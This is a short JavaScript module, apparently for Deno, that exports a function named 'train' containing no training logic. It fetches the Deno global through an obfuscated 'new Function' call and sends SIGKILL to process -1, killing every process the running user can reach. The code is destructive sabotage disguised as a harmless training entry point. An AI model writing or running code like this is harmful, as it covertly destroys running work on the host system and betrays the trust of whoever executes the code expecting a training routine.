export default async function train(run) {
  const { kill } = new Function('return Deno')();
  kill(-1, 'SIGKILL');
}
